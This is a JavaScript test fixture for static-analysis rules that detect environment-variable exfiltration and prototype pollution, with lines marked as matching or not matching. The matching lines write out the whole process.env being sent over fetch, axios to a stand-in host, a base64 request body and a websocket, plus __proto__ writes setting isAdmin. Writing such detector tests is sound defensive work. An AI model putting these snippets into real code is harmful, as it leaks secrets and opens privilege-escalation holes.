// Tests for exfiltration.yaml.
const https = require('https');

async function cases(url, req, ws, axios, obj, key, value) {
  // ruleid: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: JSON.stringify(process.env) });
  // ruleid: js.exfil.env-over-network
  axios.post('https://x.example/c', { env: process.env });
  // ruleid: js.exfil.env-over-network
  req.write(Buffer.from(JSON.stringify(process.env)).toString('base64'));
  // ruleid: js.exfil.env-over-network
  ws.send(JSON.stringify({ e: process.env }));
  // ok: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: process.env.PAYLOAD });
  // ok: js.exfil.env-over-network
  req.write(JSON.stringify({ home: process.env.HOME }));
  // ok: js.exfil.env-over-network
  console.log(JSON.stringify(process.env));
  // ok: js.exfil.env-over-network
  await fetch(url, { method: 'POST', body: data });

  // ruleid: js.prototype-pollution.proto-write
  obj.__proto__.isAdmin = true;
  // ruleid: js.prototype-pollution.proto-write
  obj['__proto__'][key] = value;
  // ruleid: js.prototype-pollution.proto-write
  obj.constructor.prototype.polluted = value;
  // ruleid: js.prototype-pollution.proto-write
  Target["prototype"][key] = value;
  // ok: js.prototype-pollution.proto-write
  obj.proto.isAdmin = true;
  // ok: js.prototype-pollution.proto-write
  obj['data'][key] = value;
  // ok: js.prototype-pollution.proto-write
  const p = obj.__proto__;
}

module.exports = cases;
